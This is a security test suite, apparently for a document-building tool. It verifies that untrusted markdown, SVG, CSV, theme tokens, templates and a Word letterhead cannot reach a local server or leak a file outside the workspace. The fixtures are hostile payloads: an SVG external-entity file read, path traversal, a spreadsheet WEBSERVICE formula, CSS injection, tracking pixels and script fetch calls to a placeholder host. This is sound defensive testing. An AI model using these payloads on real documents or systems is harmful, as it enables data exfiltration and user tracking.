import { mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { type AddressInfo, createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import puppeteer from "puppeteer";
import { afterAll, beforeAll, expect, it } from "vitest";
import { createNodeHost } from "../scripts/host/node-host.ts";
import { findBrowser } from "../scripts/render/browser/find-browser.ts";
import { createWorkspace, projectRoot, type Workspace } from "./support/workspace.ts";

/*
 * A stranger's workspace, whatever in it may name an address or a file: a server that listens hears nothing, not while it is built,
 * checked, copied and planned, nor when its pages are opened; and what lies outside is in no file that is made.
 */
const secret = "a secret outside of the workspace";
let server: Server;
let at = "";
let heard: string[] = [];
let workspace: Workspace;
let outside: string;

/** Files of a document by the way that it tries; `AT` is the server's address, `OUT` a secret file outside. */
const ways: Readonly<Record<string, Record<string, string>>> = {
  "picture-on-web": { "en.md": "![A](http://AT/picture)" },
  "picture-outside": { "en.md": "![A](OUT) ![B](../../../../../..OUT) ![C](<file://OUT>)" },
  "picture-by-link": { "en.md": "![A](linked.svg)" },
  "html-elements": {
    "en.md":
      '<img src="http://AT/html"> <link rel="stylesheet" href="http://AT/link"> <a href="http://AT/a" ping="http://AT/ping">a</a>',
  },
  ...Object.fromEntries(
    Object.entries({
      image:
        '<image href="http://AT/svg" width="9" height="9"/><image href="file://OUT" width="9" height="9"/>',
      style: '<style>@import "http://AT/svg"; rect { fill: url(http://AT/svg#a) }</style>',
      paint: '<rect fill="url(http://AT/svg#a)" filter="url(OUT#b)" width="9" height="9"/>',
      use: '<use href="http://AT/svg#a"/><use href="OUT#a"/>',
      script: '<script href="http://AT/svg"/><script>fetch("http://AT/svg")</script>',
      foreign:
        '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="http://AT/svg"/></foreignObject>',
      feimage:
        '<filter id="f"><feImage href="http://AT/svg"/></filter><rect filter="url(#f)" width="9" height="9"/>',
      entity: "&secret;",
    }).map(([name, drawn]) => [
      `svg-${name}`,
      {
        "en.md": "![A](a.svg)",
        "a.svg": `<?xml version="1.0"?><?xml-stylesheet href="http://AT/svg"?><!DOCTYPE svg [<!ENTITY secret SYSTEM "file://OUT">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${drawn}</svg>`,
      },
    ]),
  ),
  "chart-outside": { "en.md": "::chart{data=OUT title=A}" },
  "letterhead-outside": { "en.md": "Text.", front: "reference-doc: OUT" },
  "theme-outside": { "en.md": "Text.", front: "theme: OUT" },
  "annex-outside": { "en.md": "Text.", front: "annexes: [../../../../../../..OUT]" },
  "recipients-outside": { "en.md": "Text.", front: "recipients: OUT" },
  "list-with-addresses": {
    "en.md": "To {{ recipient.name }}.",
    front: "recipients: list.csv",
    "list.csv":
      'id,name,email,attachments\na,"![A](http://AT/list) <img src=""http://AT/list"">",a@b.example,\nb,"=WEBSERVICE(""http://AT/list"")",b@b.example,\nc,C,c@b.example,OUT\n',
  },
  "tokens-of-a-theme": {
    "en.md": "Text.",
    front: "theme: evil.tokens.json",
    "evil.tokens.json": JSON.stringify({
      font: { sans: { $type: "fontFamily", $value: 'x";}body{background:url(http://AT/token)}a{b:"' } },
      color: { brand: { $type: "color", $value: "url(http://AT/token)" } },
    }),
  },
  "fonts-of-a-theme": {
    "en.md": "Text.",
    front: "theme: evil.tokens.json",
    "evil.tokens.json": JSON.stringify({
      font: {
        sans: {
          $type: "fontFamily",
          $value: "Evil",
          $extensions: { dipla: { files: { 400: "http://AT/font.ttf", 700: "OUT" } } },
        },
      },
    }),
  },
};

/** What a template of a stranger's adds to its page, its style or its messages. */
const templates: Readonly<Record<string, { file: string; text: string }>> = {
  image: { file: "page.hbs", text: '<img src="http://AT/template" alt="A">' },
  script: { file: "page.hbs", text: '<script src="http://AT/template"></script>' },
  frame: { file: "page.hbs", text: '<iframe src="http://AT/template"></iframe>' },
  refresh: { file: "page.hbs", text: '<meta http-equiv="refresh" content="0;url=http://AT/template">' },
  style: { file: "style.css", text: 'body { background: url("http://AT/template") }' },
  import: { file: "style.css", text: '@import "http://AT/template";' },
  face: { file: "style.css", text: '@font-face { font-family: "Sofia Sans"; src: url(http://AT/template) }' },
  file: { file: "style.css", text: 'body::after { content: url("file://OUT") }' },
  pixel: { file: "mail.hbs", text: '<img src="http://AT/template" alt="">' },
  partial: { file: "page.hbs", text: "{{> ../../../../../..OUT}}" },
};

beforeAll(async () => {
  server = createServer((socket) => {
    socket.on("error", () => undefined);
    socket.on("data", (data) => {
      heard.push(data.toString("latin1").split("\r\n")[0] ?? "");
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  at = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  outside = await mkdtemp(join(tmpdir(), "dipla-outside-"));
  const file = join(outside, "secret.svg");
  await writeFile(
    file,
    `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="9"><text y="9">${secret}</text></svg>`,
  );
  const filled = (text: string): string => text.replaceAll("AT", at).replaceAll("OUT", file);
  workspace = await createWorkspace({
    "dipla.config.json": JSON.stringify({ send: { from: "Office <office@dipla.example>" } }),
    "content/_data/organisation.yaml": "name: Office for Tests\n",
  });
  for (const [name, files] of Object.entries(ways))
    for (const [path, text] of Object.entries(files))
      if (path !== "front")
        await workspace.write(
          `content/${name}/${path}`,
          filled(
            path === "en.md"
              ? `---\ntitle: T\ntemplate: briefing\n${files.front ?? ""}\n---\n\nWords.\n\n${text}\n`
              : text,
          ),
        );
  await symlink(file, join(workspace.root, "content/picture-by-link/linked.svg"));
  for (const [name, { file: changed, text }] of Object.entries(templates)) {
    await workspace.copy(join(projectRoot, "templates/briefing"), `templates/evil-${name}`);
    for (const mail of ["mail.hbs", "mail.txt.hbs"])
      await workspace.copy(join(projectRoot, "templates/_base", mail), `templates/evil-${name}/${mail}`);
    const path = `templates/evil-${name}/template.yaml`;
    await workspace.write(path, (await workspace.text(path)).replace(/^name: .*/m, `name: evil-${name}`));
    const part = `templates/evil-${name}/${changed}`;
    await workspace.write(part, `${await workspace.text(part)}\n${filled(text)}\n`);
    await workspace.write(
      `content/template-${name}/en.md`,
      `---\ntitle: T\ntemplate: evil-${name}\nrecipients: list.csv\n---\n\nWords.\n`,
    );
    await workspace.write(
      `content/template-${name}/list.csv`,
      "id,name,salutation,address,email\na,A,Dear A,S,a@b.example\n",
    );
  }
  await workspace.write("content/letterhead-relations/letter.docx", letterhead(filled));
  await workspace.write(
    "content/letterhead-relations/en.md",
    "---\ntitle: T\ntemplate: briefing\nreference-doc: letter.docx\n---\n\nWords.\n",
  );
}, 60_000);
afterAll(async () => {
  server.close();
  await workspace.remove();
  await rm(outside, { recursive: true });
});

/** A letterhead that Word would load a template and a picture of elsewhere for. */
function letterhead(filled: (text: string) => string): Uint8Array {
  const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const relations = (all: string): Uint8Array =>
    strToU8(
      filled(
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all}</Relationships>`,
      ),
    );
  const word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  return zipSync({
    "[Content_Types].xml": strToU8(
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>',
    ),
    "_rels/.rels": relations(
      `<Relationship Id="r1" Type="${office}/officeDocument" Target="word/document.xml"/>`,
    ),
    "word/document.xml": strToU8(
      `<w:document ${word} xmlns:r="${office}"><w:body><w:sectPr><w:headerReference w:type="default" r:id="r1"/></w:sectPr></w:body></w:document>`,
    ),
    "word/header1.xml": strToU8(
      `<w:hdr ${word} xmlns:r="${office}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="a" descr="a"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="r1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p></w:hdr>`,
    ),
    "word/_rels/document.xml.rels": relations(
      `<Relationship Id="r1" Type="${office}/header" Target="header1.xml"/><Relationship Id="r2" Type="${office}/attachedTemplate" Target="http://AT/attached" TargetMode="External"/>`,
    ),
    "word/_rels/header1.xml.rels": relations(
      `<Relationship Id="r1" Type="${office}/image" Target="http://AT/header" TargetMode="External"/>`,
    ),
  });
}

it("says nothing to anybody while it is built, checked, copied and planned", async () => {
  heard = [];
  for (const command of [["build"], ["check", "--no-report"], ["build", "--copies"]]) {
    const { code, stderr } = await workspace.run(...command);
    expect([3, 4], stderr).toContain(code);
    expect(stderr).not.toMatch(/please report this.*(?:content|templates)\/|\n\s+at /i);
  }
  for (const name of ["list-with-addresses", ...Object.keys(templates).map((one) => `template-${one}`)])
    await workspace.run("send", name);
  expect(heard).toEqual([]);
}, 240_000);

it("is told of every way that is a mistake, at its file", async () => {
  const checked = await workspace.run("check", "--no-report");
  // What a row names is looked up for its copy, and a message is made to be sent.
  const copies = await workspace.run("build", "--copies", "list-with-addresses");
  const mailed = await workspace.run("send", "template-pixel");
  const stderr = checked.stderr + copies.stderr + mailed.stderr;
  for (const name of [...Object.keys(ways), ...Object.keys(templates).map((one) => `evil-${one}`)])
    expect(stderr, name).toMatch(new RegExp(`(?:content|templates)/${name}/\\S+ (?:error|warning) `));
});

it("holds nothing of what lies outside", async () => {
  const files = (await readdir(join(workspace.root, "out"), { recursive: true, withFileTypes: true })).filter(
    (entry) => entry.isFile(),
  );
  expect(files.length).toBeGreaterThan(20);
  for (const { parentPath, name } of files) {
    const bytes = new Uint8Array(await readFile(join(parentPath, name)));
    const parts = /\.(?:docx|zip|xlsx|asice)$/.test(name) ? Object.values(unzipSync(bytes)) : [bytes];
    for (const part of parts) expect(strFromU8(part, true), `${parentPath}/${name}`).not.toContain(secret);
    for (const part of parts)
      if (/\.(?:html|eml)$/.test(name))
        expect(strFromU8(part), name).not.toMatch(new RegExp(`(?:src|background)=["']?http://${at}`));
  }
});

it("asks for nothing when its pages are opened in a browser that may ask", async () => {
  const { executable, env } = await findBrowser(createNodeHost());
  const browser = await puppeteer.launch({
    executablePath: executable,
    args: ["--no-sandbox"],
    env: { ...process.env, ...env },
  });
  heard = [];
  const pages = (await readdir(join(workspace.root, "out"), { recursive: true })).filter((name) =>
    name.endsWith(".html"),
  );
  expect(pages.length).toBeGreaterThan(5);
  for (const name of pages) {
    const page = await browser.newPage();
    await page.goto(`file://${join(workspace.root, "out", name)}`, { waitUntil: "load" });
    await page.close();
  }
  // The browser can ask: a page of this test's own is heard.
  const own = await browser.newPage();
  await own.setContent(`<img src="http://${at}/own">`, { waitUntil: "load" });
  await browser.close();
  expect(heard).toEqual(["GET /own HTTP/1.1"]);
}, 120_000);
